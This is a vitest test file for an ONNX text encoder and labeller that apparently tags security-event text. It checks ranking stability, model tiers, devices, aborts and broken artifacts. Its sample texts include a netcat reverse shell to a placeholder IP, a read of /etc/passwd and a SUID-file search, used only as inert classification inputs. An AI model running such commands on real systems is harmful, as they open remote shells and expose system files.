import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { TagsmithError } from "../../src/event/tagsmith-error.ts";
import { loadVocabulary } from "../../src/event/vocabulary.ts";
import { parseDevices } from "../../src/label/device.ts";
import type { Encoder, Ranking } from "../../src/label/encoder.ts";
import { createLabelCache } from "../../src/label/label-cache.ts";
import { createLabeller } from "../../src/label/labeller.ts";
import { type Artifact, loadArtifact } from "../../src/label/load-artifact.ts";
import { createOnnxEncoder } from "../../src/label/onnx-encoder.ts";

const root = join(import.meta.dirname, "../..");
const vocabulary = loadVocabulary(join(root, "schema/tags.json"));
const open = new AbortController().signal;
const SELECTION = { minScore: 0.55, maxTags: 4, multiLabelGap: 0.12 };

/** Distinct texts of 1 to some 150 tokens, in mixed order. */
const TEXTS = Array.from({ length: 64 }, (_, index) => {
  const words = ["cat /etc/passwd", "nc -e /bin/sh 203.0.113.10 4444", "systemctl restart nginx", "find / -perm -4000"];
  const length = 1 + ((index * 7) % 11);
  return `${index} ${Array.from({ length }, (_, word) => words[(index + word) % words.length]).join(" && ")}`;
});

let artifact: Artifact;
let encoder: Encoder;
beforeAll(async () => {
  artifact = await loadArtifact(join(root, "models/tagsmith-small"), vocabulary);
  encoder = await createOnnxEncoder({ artifact, topK: 5, workers: 2, maxPendingTexts: 100 });
});
afterAll(() => encoder.close());

const bits = ({ indices, scores }: Ranking) => [...indices, ...scores];

describe("createOnnxEncoder", () => {
  it("gives a text bit for bit the same ranking alone, among 7 and among 64", async () => {
    const among64 = (await encoder.encode(TEXTS, open)).map(bits);
    const among7: number[][] = [];
    for (let start = 0; start < TEXTS.length; start += 7) {
      among7.push(...(await encoder.encode(TEXTS.slice(start, start + 7), open)).map(bits));
    }
    const alone: number[][] = [];
    for (const text of TEXTS) alone.push(...(await encoder.encode([text], open)).map(bits));
    expect(among7).toEqual(among64);
    expect(alone).toEqual(among64);
  });

  it("gives the same ranking whatever the worker count, thread count and batch size", async () => {
    const expected = (await encoder.encode(TEXTS, open)).map(bits);
    const other = await createOnnxEncoder({ artifact, topK: 5, workers: 1, threads: 2, maxBatchTokens: 300 });
    try {
      expect((await other.encode(TEXTS, open)).map(bits)).toEqual(expected);
    } finally {
      await other.close();
    }
  });

  it("gives each text the answer of the first stage or of the whole model, by what the first stage is sure of", async () => {
    const reaching =
      "k8s_audit verb=create resource=pods subresource=exec namespace=web name=web-0 requestObject=command=id";
    const texts = [...TEXTS, reaching, "qwzx --vbnm"];
    const fast = await createOnnxEncoder({ artifact, topK: 5, workers: 1, tier: "fast" });
    const accurate = await createOnnxEncoder({ artifact, topK: 5, workers: 1, tier: "accurate" });
    try {
      const first = (await fast.encode(texts, open)).map(bits);
      const whole = (await accurate.encode(texts, open)).map(bits);
      const both = (await encoder.encode(texts, open)).map(bits);
      const sure = artifact.encoder.firstStage?.sureFrom ?? 0;
      const expected = first.map((ranking, at) =>
        (ranking[5] ?? 0) >= sure && texts[at] !== reaching ? ranking : whole[at],
      );
      expect(both).toEqual(expected);
      expect(both[0]).toEqual(first[0]);
      expect(both.slice(-2)).toEqual(whole.slice(-2));
      expect(first.at(-1)).not.toEqual(whole.at(-1));
      expect(fast.counters().tokens).toBe(0);
      expect(accurate.counters().tokens).toBeGreaterThan(texts.length);
    } finally {
      await Promise.all([fast.close(), accurate.close()]);
    }
  });

  it("ranks tags best first, each once, with scores from 0 to 1", async () => {
    for (const { indices, scores } of await encoder.encode(TEXTS, open)) {
      expect(new Set(indices).size).toBe(5);
      expect([...scores]).toEqual([...scores].sort((a, b) => b - a));
      for (const score of scores) expect(score >= 0 && score <= 1).toBe(true);
      for (const index of indices) expect(index).toBeLessThan(artifact.tags.length);
    }
  });

  it("takes hostile texts in stride", async () => {
    const hostile = [
      "A".repeat(10_000_000),
      "\0",
      "ls\0-la",
      "\uD800",
      "\u{1F600}".repeat(5_000),
      "",
      " ",
      "[SEP] [PAD]",
    ];
    const labeller = createLabeller({
      encoder,
      cache: createLabelCache({ maxBytes: 1e6 }),
      tags: artifact.tags,
      selection: SELECTION,
    });
    const labelled = await labeller.label(hostile, open);
    expect(labelled.map((result) => result.labels.length)).toEqual([5, 0, 5, 0, 0, 0, 0, 5]);
  });

  it("returns all tags when more labels are asked for than there are tags", async () => {
    const all = await createOnnxEncoder({ artifact, topK: 1_000, workers: 1 });
    try {
      const [ranking] = await all.encode(["cat /etc/passwd"], open);
      expect(all.topK).toBe(361);
      expect(new Set(ranking?.indices).size).toBe(361);
    } finally {
      await all.close();
    }
  });

  it("makes callers beyond the pending limit wait, and serves them all", async () => {
    const calls = Array.from({ length: 6 }, () => encoder.encode(TEXTS, open));
    const results = await Promise.all(calls);
    expect(new Set(results.map((rankings) => JSON.stringify(rankings.map(bits)))).size).toBe(1);
    expect(encoder.counters().queued).toBe(0);
  });

  it("rejects at once on abort and goes on serving others", async () => {
    const stop = new AbortController();
    const aborted = encoder.encode(TEXTS, stop.signal);
    const other = encoder.encode(TEXTS.slice(0, 3), open);
    stop.abort(new Error("stop"));
    await expect(aborted).rejects.toThrow("stop");
    expect(await other).toHaveLength(3);
  });

  it("lets the running work end when it is closed", async () => {
    // All in one job: work that still waits for a worker is refused.
    const closing = await createOnnxEncoder({
      artifact,
      topK: 5,
      workers: 1,
      tier: "accurate",
      maxBatchTokens: 65_536,
    });
    const running = closing.encode(TEXTS.slice(0, 20), open);
    await new Promise((resolve) => setTimeout(resolve, 20));
    await Promise.all([closing.close(), closing.close()]);
    expect(await running).toHaveLength(20);
  });

  it("counts texts, tokens and padding", async () => {
    const before = encoder.counters();
    await encoder.encode(["qwzx --vbnm", "zzyx 77"], open);
    const after = encoder.counters();
    expect(after.texts - before.texts).toBe(2);
    expect(after.tokens).toBeGreaterThan(before.tokens);
    expect(after.paddedTokens - before.paddedTokens).toBeGreaterThanOrEqual(after.tokens - before.tokens);
  });

  it("leaves the event loop free while it computes", async () => {
    let ticks = 0;
    const timer = setInterval(() => {
      ticks += 1;
    }, 5);
    await encoder.encode(
      Array.from({ length: 100 }, (_, index) => `${index} ${TEXTS[index % 64]}`),
      open,
    );
    clearInterval(timer);
    expect(ticks).toBeGreaterThan(10);
  });
});

describe("createOnnxEncoder on several devices", () => {
  // No machine has 64 of them: the way of one without any, on every machine.
  const absent = "cuda:63";
  const openOn = async (names: readonly string[]) => {
    const lost: string[] = [];
    const onDeviceLost = ({ code, message }: TagsmithError, left: number): number =>
      lost.push(`${code} ${left} ${message}`);
    const devices = parseDevices(names);
    return { lost, on: await createOnnxEncoder({ artifact, topK: 5, tier: "accurate", devices, onDeviceLost }) };
  };
  const accurate = async (): Promise<number[][]> => {
    const one = await createOnnxEncoder({ artifact, topK: 5, workers: 1, tier: "accurate" });
    try {
      return (await one.encode(TEXTS, open)).map(bits);
    } finally {
      await one.close();
    }
  };

  it("uses each of them, with the rankings of one", async () => {
    const { on, lost } = await openOn(["cpu", "cpu"]);
    try {
      const results = await Promise.all(Array.from({ length: 4 }, () => on.encode(TEXTS, open)));
      const expected = await accurate();
      for (const rankings of results) expect(rankings.map(bits)).toEqual(expected);
      const uses = on.devices();
      expect(uses.map(({ name }) => name)).toEqual(["cpu#1", "cpu#2"]);
      for (const { texts, busySecs } of uses) {
        expect(texts).toBeGreaterThan(0);
        expect(busySecs).toBeGreaterThan(0);
      }
      expect(uses.reduce((sum, { texts }) => sum + texts, 0)).toBe(4 * TEXTS.length);
      expect(lost).toEqual([]);
    } finally {
      await on.close();
    }
  });

  it("names one that the machine does not have, and goes on with the others", async () => {
    const { on, lost } = await openOn(["cpu", absent]);
    try {
      expect((await on.encode(TEXTS, open)).map(bits)).toEqual(await accurate());
      expect(lost).toHaveLength(1);
      expect(lost[0]).toMatch(/^encoder_device_lost 1 cuda:63 cannot be used: .*cuda.* Devices left: 1\.$/i);
      expect(on.devices().map(({ lost: why }) => why === undefined)).toEqual([true, false]);
    } finally {
      await on.close();
    }
  });

  it("refuses to start where the machine has none of them", async () => {
    await expect(openOn([absent, "cuda:62"])).rejects.toMatchObject({
      code: "encoder_start_failed",
      message: expect.stringMatching(/cuda:63: .*; cuda:62: /),
    });
    expect(() => parseDevices(["abacus"])).toThrow("abacus is no device");
  });
});

describe("createOnnxEncoder on a broken model", () => {
  const directory = mkdtempSync(join(tmpdir(), "artifact-"));
  afterAll(() => rmSync(directory, { recursive: true, force: true }));

  it.each<[string, () => Partial<Artifact["encoder"]>]>([
    ["a graph file that is gone", () => ({ graph: join(directory, "none.onnx") })],
    [
      "a graph that was cut short",
      () => {
        const graph = join(directory, "cut.onnx");
        writeFileSync(graph, readFileSync(artifact.encoder.graph).subarray(0, 1_000_000));
        return { graph };
      },
    ],
    ["a graph with other inputs", () => ({ inputs: { ids: "tokens", mask: "attention_mask", k: "k" } })],
    ["a tokenizer that is none", () => ({ tokenizer: artifact.encoder.tokenizerConfig })],
  ])("refuses to start with %s", async (_, change) => {
    const broken = { ...artifact, encoder: { ...artifact.encoder, ...change() } };
    await expect(createOnnxEncoder({ artifact: broken, topK: 5, workers: 2 })).rejects.toMatchObject({
      code: "encoder_start_failed",
      remedy: "exit",
    });
  });
});

describe("a process with an encoder", () => {
  // The runtime's binding is loaded some 80 ms after the start; ended there, it aborts the process.
  it.each([
    ["starting", [20, 50, 60, 70, 75, 80, 85, 90, 100, 120, 150]],
    ["working", [60]],
  ])("ends with its own exit code when it exits while the encoder is %s", (moment, delaysMs) => {
    const program = join(import.meta.dirname, "label-exit-midway.ts");
    for (const delayMs of delaysMs) {
      const { status, signal, stderr } = spawnSync(
        process.execPath,
        ["--disable-warning=ExperimentalWarning", program, moment, String(delayMs)],
        { encoding: "utf8" },
      );
      expect({ delayMs, status, signal, stderr }).toEqual({ delayMs, status: 7, signal: null, stderr: "" });
    }
  });
});
